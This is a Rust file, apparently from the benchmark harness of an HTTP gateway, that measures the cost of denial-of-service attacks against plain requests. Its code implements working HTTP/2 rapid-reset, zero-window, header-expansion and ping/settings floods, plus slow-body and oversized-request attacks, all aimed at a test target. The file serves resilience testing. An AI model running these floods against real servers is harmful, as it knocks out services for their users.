//! The attacks, each with as few bytes as possible, behind the plain requests that they are
//! compared with.

use crate::attack_costs::Target;
use portcullis_testkit::raw_http2::{
    ACK, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RESET, SETTINGS, frame, head,
    indexed_literal, literal,
};
use std::pin::Pin;
use std::sync::atomic::Ordering;
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::sleep;

type Attack = fn(Target) -> Pin<Box<dyn Future<Output = ()> + Send>>;

/// An attack, and how long it is looked at.
pub(crate) struct Case {
    pub(crate) name: &'static str,
    pub(crate) attack: Attack,
    pub(crate) lasts: Duration,
    /// Whether its requests wait, and so are the measure for what they hold.
    pub(crate) is_waiting: bool,
}

const fn case(name: &'static str, attack: Attack, seconds: u64) -> Case {
    Case {
        name,
        attack,
        lasts: Duration::from_secs(seconds),
        is_waiting: false,
    }
}

pub(crate) const CASES: &[Case] = &[
    case(
        "plain requests one after another",
        |it| Box::pin(plain(it)),
        3,
    ),
    Case {
        is_waiting: true,
        ..case(
            "plain requests that wait, one on each connection",
            |it| Box::pin(waiting(it)),
            3,
        )
    },
    case(
        "B1  100 streams on 11 connections, upstream waits",
        |it| Box::pin(streams(it, "/wait", 11, 100)),
        5,
    ),
    case(
        "B2  window of 0, 50 streams of 5 MB",
        |it| Box::pin(no_window(it)),
        5,
    ),
    case(
        "B3  100 connections of one request that answer pings",
        |it| Box::pin(streams(it, "/ok", 100, 1)),
        5,
    ),
    case(
        "B4  a field of 4 kB by one byte, in 1,000 requests",
        |it| Box::pin(expanding(it)),
        4,
    ),
    case(
        "B4  rapid reset, 20,000 requests taken back",
        |it| Box::pin(rapid_reset(it)),
        4,
    ),
    case(
        "B4  pings and settings, 10 MB",
        |it| Box::pin(control_frames(it)),
        4,
    ),
    case(
        "B5  an upstream that goes away, 1,000 requests",
        |it| Box::pin(repeated(it, "GET", "/gone", "", 1_000)),
        4,
    ),
    case(
        "B6  the same, by HTTP/2",
        |it| Box::pin(streams(it, "/gone", 10, 100)),
        4,
    ),
    case(
        "B7  1,000 chunked GETs",
        |it| Box::pin(repeated(it, "GET", "/ok", CHUNKED, 1_000)),
        4,
    ),
    case(
        "B8  200 bodies of a byte a second",
        |it| Box::pin(trickle(it)),
        8,
    ),
    case(
        "B9  an upstream that answers badly, 1,000 requests",
        |it| Box::pin(repeated(it, "GET", "/malformed", "", 1_000)),
        4,
    ),
    case(
        "B11 200 bodies over the limit",
        |it| Box::pin(repeated(it, "POST", "/ok", TOO_LARGE, 200)),
        4,
    ),
    case(
        "B12 50 refused uploads of 64 kB",
        |it| Box::pin(uploads(it)),
        4,
    ),
];

const CHUNKED: &str = "Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n0";
const TOO_LARGE: &str = "Content-Length: 20000000";
/// The attacker's address, in its shortest field.
const CALLER: (&str, &str) = ("x-forwarded-for", "192.0.2.1");

async fn connect(target: &Target) -> Option<TcpStream> {
    TcpStream::connect(target.address).await.ok()
}

async fn send(target: &Target, stream: &mut TcpStream, bytes: &[u8]) -> bool {
    let sent = stream.write_all(bytes).await.is_ok();
    target
        .sent
        .fetch_add(bytes.len() as u64, Ordering::Relaxed);
    sent
}

/// A connection of HTTP/2 with these settings.
async fn http2(target: &Target, settings: &[u8]) -> Option<TcpStream> {
    let mut stream = connect(target).await?;
    let begin = [
        &b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..],
        &frame(SETTINGS, 0, 0, settings),
    ]
    .concat();
    send(target, &mut stream, &begin)
        .await
        .then_some(stream)
}

fn request(stream: u32, path: &str, more: &[u8]) -> Vec<u8> {
    let block = [
        head("GET", path),
        literal(CALLER.0, CALLER.1),
        more.to_vec(),
    ]
    .concat();
    frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
}

/// Answers settings and pings, and takes the rest, for as long as the connection lasts.
async fn hold(target: Target, mut stream: TcpStream) {
    let mut head = [0; 9];
    while stream.read_exact(&mut head).await.is_ok() {
        let mut payload = vec![0; u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize];
        if stream.read_exact(&mut payload).await.is_err() {
            return;
        }
        if matches!(head[3], PING | SETTINGS) && head[4] & ACK == 0 {
            let back = if head[3] == PING { payload } else { Vec::new() };
            send(&target, &mut stream, &frame(head[3], ACK, 0, &back)).await;
        }
    }
}

async fn plain(target: Target) {
    for _ in 0..10 {
        let Some(mut stream) = connect(&target).await else {
            return;
        };
        for _ in 0..100 {
            let text = format!(
                "GET /ok HTTP/1.1\r\nHost: gw.example\r\n{}: {}\r\n\r\n",
                CALLER.0, CALLER.1
            );
            send(&target, &mut stream, text.as_bytes()).await;
            _ = stream.read(&mut [0; 4_096]).await;
        }
    }
}

async fn waiting(target: Target) {
    let mut held = Vec::new();
    for _ in 0..100 {
        let Some(mut stream) = connect(&target).await else {
            return;
        };
        let text = format!(
            "GET /wait HTTP/1.1\r\nHost: gw.example\r\n{}: {}\r\n\r\n",
            CALLER.0, CALLER.1
        );
        send(&target, &mut stream, text.as_bytes()).await;
        held.push(stream);
    }
    std::future::pending::<()>().await;
}

async fn streams(target: Target, path: &'static str, connections: u32, streams: u32) {
    let mut held = tokio::task::JoinSet::new();
    for _ in 0..connections {
        let Some(mut stream) = http2(&target, &[]).await else {
            continue;
        };
        let flood: Vec<u8> = (0..streams)
            .flat_map(|number| request(2 * number + 1, path, &[]))
            .collect();
        send(&target, &mut stream, &flood).await;
        held.spawn(hold(target.clone(), stream));
    }
    while held.join_next().await.is_some() {}
}

async fn no_window(target: Target) {
    let Some(mut stream) = http2(&target, &[0, 4, 0, 0, 0, 0]).await else {
        return;
    };
    let flood: Vec<u8> = (0..50)
        .flat_map(|number| request(2 * number + 1, "/large", &[]))
        .collect();
    send(&target, &mut stream, &flood).await;
    hold(target, stream).await;
}

async fn expanding(target: Target) {
    for _ in 0..10 {
        let Some(mut stream) = http2(&target, &[]).await else {
            return;
        };
        let cookie = indexed_literal("cookie", &"a".repeat(3_900));
        send(&target, &mut stream, &request(1, "/ok", &cookie)).await;
        let flood: Vec<u8> = (1..100)
            .flat_map(|number| request(2 * number + 1, "/ok", &[0x80 | 62; 7]))
            .collect();
        send(&target, &mut stream, &flood).await;
        // The settings are not acknowledged.
        let mut buffer = vec![0; 16_384];
        let taken = async {
            while stream
                .read(&mut buffer)
                .await
                .is_ok_and(|read| read > 0)
            {}
        };
        _ = tokio::time::timeout(Duration::from_millis(200), taken).await;
    }
}

async fn rapid_reset(target: Target) {
    for _ in 0..20 {
        let Some(mut stream) = http2(&target, &[]).await else {
            return;
        };
        for number in 0..1_000 {
            let reset = frame(RESET, 0, 2 * number + 1, &8_u32.to_be_bytes());
            let both = [request(2 * number + 1, "/wait", &[]), reset].concat();
            if !send(&target, &mut stream, &both).await {
                break;
            }
        }
    }
}

async fn control_frames(target: Target) {
    let Some(mut stream) = http2(&target, &[]).await else {
        return;
    };
    let flood: Vec<u8> = (0..1_000)
        .flat_map(|_| [frame(PING, 0, 0, &[7; 8]), frame(SETTINGS, 0, 0, &[])].concat())
        .collect();
    while target.sent.load(Ordering::Relaxed) < 10_000_000
        && send(&target, &mut stream, &flood).await
    {}
}

async fn repeated(
    target: Target,
    method: &'static str,
    path: &'static str,
    more: &'static str,
    times: usize,
) {
    for _ in 0..times {
        let Some(mut stream) = connect(&target).await else {
            continue;
        };
        let more = if more.is_empty() {
            String::new()
        } else {
            format!("{more}\r\n")
        };
        let text = format!(
            "{method} {path} HTTP/1.1\r\nHost: gw.example\r\n{}: {}\r\n{more}\r\n",
            CALLER.0, CALLER.1
        );
        send(&target, &mut stream, text.as_bytes()).await;
        _ = stream.read(&mut [0; 4_096]).await;
    }
}

async fn trickle(target: Target) {
    let mut bodies = tokio::task::JoinSet::new();
    for _ in 0..200 {
        let target = target.clone();
        bodies.spawn(async move {
            let Some(mut stream) = connect(&target).await else {
                return;
            };
            let head = format!(
                "POST /wait HTTP/1.1\r\nHost: a\r\n{}: {}\r\nContent-Length: 9999\r\n\r\n",
                CALLER.0, CALLER.1
            );
            let mut goes_on = send(&target, &mut stream, head.as_bytes()).await;
            while goes_on {
                sleep(Duration::from_secs(1)).await;
                goes_on = send(&target, &mut stream, b"a").await;
            }
        });
    }
    while bodies.join_next().await.is_some() {}
}

async fn uploads(target: Target) {
    for _ in 0..50 {
        let Some(mut stream) = http2(&target, &[]).await else {
            return;
        };
        let block = [head("POST", "/closed/x"), literal(CALLER.0, CALLER.1)].concat();
        send(
            &target,
            &mut stream,
            &frame(HEADERS, END_HEADERS, 1, &block),
        )
        .await;
        for number in 0..4 {
            let end = if number == 3 { END_STREAM } else { 0 };
            send(&target, &mut stream, &frame(DATA, end, 1, &vec![7; 16_000])).await;
        }
        let mut buffer = vec![0; 16_384];
        let taken = async {
            while stream
                .read(&mut buffer)
                .await
                .is_ok_and(|read| read > 0)
            {}
        };
        _ = tokio::time::timeout(Duration::from_millis(50), taken).await;
    }
}
